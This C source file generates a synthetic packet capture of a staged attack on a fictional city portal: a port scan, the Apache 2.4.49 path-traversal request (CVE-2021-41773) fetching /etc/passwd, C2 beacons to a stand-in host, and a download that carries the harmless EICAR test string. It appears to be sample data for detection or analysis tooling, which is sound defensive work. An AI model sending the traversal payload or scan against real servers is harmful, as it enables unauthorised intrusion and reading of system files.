/* scenario.c: the bundled sample capture, a multi-stage attack on a city web portal among benign traffic. */
#include <stdio.h>
#include <string.h>

#include "scenario.h"

#define SEC 1000000ULL

/*
 * The story, all times after t0:
 *   0 s     benign: a district PC looks up portal.hcmc.example and browses the portal.
 *   60 s    recon: 198.51.100.23 SYN-scans 10.10.1.5 (the web portal) on 40 ports; 80 and 443
 *           answer SYN/ACK, the rest RST.
 *   300 s   exploit: the same actor sends the Apache 2.4.49 path traversal (CVE-2021-41773)
 *           for /etc/passwd, and the portal answers 200 with the file.
 *   900 s   C2: the portal resolves update-check.example and beacons every 60 s (5 times) with
 *           HTTP POST /gate.php and an "MSIE 6.0" User-Agent to 203.0.113.66:8080.
 *   1260 s  tool download: the portal fetches /update.exe from the C2 server and receives the
 *           EICAR test file.
 */

/* The EICAR test string, stored reversed so the source file is not itself flagged. */
static const char eicar_reversed[] = "*H+H$!ELIF-TSET-SURIVITNA-DRADNATS-RACIE$}7)CC7)^P(45XZP\\4[PA@%P!O5X";

static void dns_exchange(struct pg_writer *w, uint64_t ts, const char *cli, const char *srv,
                         uint16_t id, const char *name, const char *answer_ip)
{
    uint8_t q[512];
    size_t n = 0;
    q[n++] = (uint8_t)(id >> 8);
    q[n++] = (uint8_t)id;
    q[n++] = 0x01; /* RD */
    q[n++] = 0x00;
    memcpy(q + n, "\x00\x01\x00\x00\x00\x00\x00\x00", 8);
    n += 8;
    size_t qname = n;
    const char *p = name;
    while (*p) {
        const char *dot = strchr(p, '.');
        size_t l = dot ? (size_t)(dot - p) : strlen(p);
        q[n++] = (uint8_t)l;
        memcpy(q + n, p, l);
        n += l;
        p += l + (dot != NULL);
    }
    q[n++] = 0;
    memcpy(q + n, "\x00\x01\x00\x01", 4); /* type A, class IN */
    n += 4;
    size_t qlen = n;

    struct pg g;
    pg_init(&g);
    pg_eth(&g, 0x0800);
    pg_ipv4(&g, cli, srv, 17, (uint16_t)id, 0);
    pg_udp(&g, (uint16_t)(30000 + id % 20000), 53);
    pg_bytes(&g, q, qlen);
    pg_finish(&g);
    pg_write(w, ts, &g);

    /* The answer: same question, QR|RD|RA, one A record pointing at the question name. */
    q[2] = 0x81;
    q[3] = 0x80;
    q[7] = 1;
    uint8_t a[4];
    unsigned b0, b1, b2, b3;
    sscanf(answer_ip, "%u.%u.%u.%u", &b0, &b1, &b2, &b3);
    a[0] = (uint8_t)b0, a[1] = (uint8_t)b1, a[2] = (uint8_t)b2, a[3] = (uint8_t)b3;
    q[n++] = (uint8_t)(0xc0 | (qname >> 8));
    q[n++] = (uint8_t)qname;
    memcpy(q + n, "\x00\x01\x00\x01\x00\x00\x01\x2c\x00\x04", 10); /* A IN ttl 300 len 4 */
    n += 10;
    memcpy(q + n, a, 4);
    n += 4;
    pg_init(&g);
    pg_eth(&g, 0x0800);
    pg_ipv4(&g, srv, cli, 17, (uint16_t)(id + 1), 0);
    pg_udp(&g, 53, (uint16_t)(30000 + id % 20000));
    pg_bytes(&g, q, n);
    pg_finish(&g);
    pg_write(w, ts + 800, &g);
}

/* One HTTP exchange on a fresh connection: open, request, response, close. */
static void http_exchange(struct pg_writer *w, uint64_t *ts, const char *cli, uint16_t cport,
                          const char *srv, uint16_t sport, const char *req, size_t reqlen,
                          const char *resp, size_t resplen)
{
    struct pg_tcp_session s = {cli, srv, cport, sport, 1000u + cport * 7u, 90000u + cport * 13u, 0};
    pg_session_open(w, &s, ts);
    pg_session_data(w, &s, 1, req, reqlen, ts);
    pg_session_data(w, &s, 0, resp, resplen, ts);
    pg_session_close(w, &s, ts);
}

static void write_benign(struct pg_writer *w, uint64_t t0)
{
    static const char req[] = "GET / HTTP/1.1\r\nHost: portal.hcmc.example\r\n"
                              "User-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64) Firefox/120.0\r\n"
                              "Accept: text/html\r\n\r\n";
    static const char resp[] = "HTTP/1.1 200 OK\r\nServer: Apache/2.4.49 (Unix)\r\n"
                               "Content-Type: text/html\r\nContent-Length: 47\r\n\r\n"
                               "<html><body>Cong dich vu cong</body></html>\r\n\r\n";
    dns_exchange(w, t0, "10.20.3.14", "10.10.0.53", 0x1a2b, "portal.hcmc.example", "10.10.1.5");
    uint64_t ts = t0 + 2 * SEC;
    http_exchange(w, &ts, "10.20.3.14", 51000, "10.10.1.5", 80, req, sizeof(req) - 1, resp,
                  sizeof(resp) - 1);
}

static void write_scan(struct pg_writer *w, uint64_t t0)
{
    static const uint16_t ports[] = {21,  22,   23,   25,   53,   80,   110,  111,  135,  139,
                                     143, 443,  445,  993,  995,  1433, 1521, 1723, 2049, 2375,
                                     3306, 3389, 5432, 5900, 5985, 6379, 7001, 8000, 8008, 8080,
                                     8081, 8443, 8888, 9000, 9200, 9300, 10000, 11211, 27017, 50000};
    uint64_t ts = t0;
    for (size_t i = 0; i < sizeof(ports) / sizeof(ports[0]); i++, ts += 50000) {
        struct pg_tcp_session s = {"198.51.100.23", "10.10.1.5", 61000, ports[i], 77000, 500000u + i, 0};
        struct pg g;
        pg_session_segment(&g, &s, 1, 0x02, NULL, 0); /* SYN */
        pg_write(w, ts, &g);
        int open = ports[i] == 80 || ports[i] == 443;
        s.cseq++;
        pg_session_segment(&g, &s, 0, open ? 0x12 : 0x14, NULL, 0); /* SYN/ACK or RST/ACK */
        pg_write(w, ts + 300, &g);
        if (open) {
            pg_session_segment(&g, &s, 1, 0x04, NULL, 0); /* the scanner resets */
            pg_write(w, ts + 600, &g);
        }
    }
}

static void write_exploit(struct pg_writer *w, uint64_t t0)
{
    static const char req[] = "GET /cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd HTTP/1.1\r\n"
                              "Host: 10.10.1.5\r\nUser-Agent: curl/7.68.0\r\nAccept: */*\r\n\r\n";
    static const char resp[] = "HTTP/1.1 200 OK\r\nServer: Apache/2.4.49 (Unix)\r\n"
                               "Content-Type: text/plain\r\nContent-Length: 64\r\n\r\n"
                               "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1::/usr/sbin:/bin/sh\n";
    uint64_t ts = t0;
    http_exchange(w, &ts, "198.51.100.23", 61022, "10.10.1.5", 80, req, sizeof(req) - 1, resp,
                  sizeof(resp) - 1);
}

static void write_c2(struct pg_writer *w, uint64_t t0)
{
    dns_exchange(w, t0, "10.10.1.5", "10.10.0.53", 0x4c4c, "update-check.example", "203.0.113.66");
    for (unsigned i = 0; i < 5; i++) {
        char req[512], body[64];
        int bl = snprintf(body, sizeof(body), "id=7f3a9c21&seq=%u&st=idle", i);
        int rl = snprintf(req, sizeof(req),
                          "POST /gate.php HTTP/1.1\r\nHost: update-check.example:8080\r\n"
                          "User-Agent: Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)\r\n"
                          "Content-Type: application/x-www-form-urlencoded\r\n"
                          "Content-Length: %d\r\n\r\n%s",
                          bl, body);
        static const char resp[] = "HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\n"
                                   "Content-Length: 4\r\n\r\nwait";
        uint64_t ts = t0 + SEC + i * 60 * SEC;
        http_exchange(w, &ts, "10.10.1.5", (uint16_t)(49200 + i), "203.0.113.66", 8080, req,
                      (size_t)rl, resp, sizeof(resp) - 1);
    }
}

static void write_download(struct pg_writer *w, uint64_t t0)
{
    char eicar[sizeof(eicar_reversed)];
    size_t el = sizeof(eicar_reversed) - 1;
    for (size_t i = 0; i < el; i++)
        eicar[i] = eicar_reversed[el - 1 - i];
    eicar[el] = '\0';
    static const char req[] = "GET /update.exe HTTP/1.1\r\nHost: update-check.example:8080\r\n"
                              "User-Agent: Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)\r\n\r\n";
    char resp[512];
    int rl = snprintf(resp, sizeof(resp),
                      "HTTP/1.1 200 OK\r\nContent-Type: application/octet-stream\r\n"
                      "Content-Disposition: attachment; filename=\"update.exe\"\r\n"
                      "Content-Length: %zu\r\n\r\n%s",
                      el, eicar);
    uint64_t ts = t0;
    http_exchange(w, &ts, "10.10.1.5", 49300, "203.0.113.66", 8080, req, sizeof(req) - 1, resp,
                  (size_t)rl);
}

void scenario_attack_chain(struct pg_writer *w, uint64_t t0)
{
    write_benign(w, t0);
    write_scan(w, t0 + 60 * SEC);
    write_exploit(w, t0 + 300 * SEC);
    write_c2(w, t0 + 900 * SEC);
    write_download(w, t0 + 1260 * SEC);
}
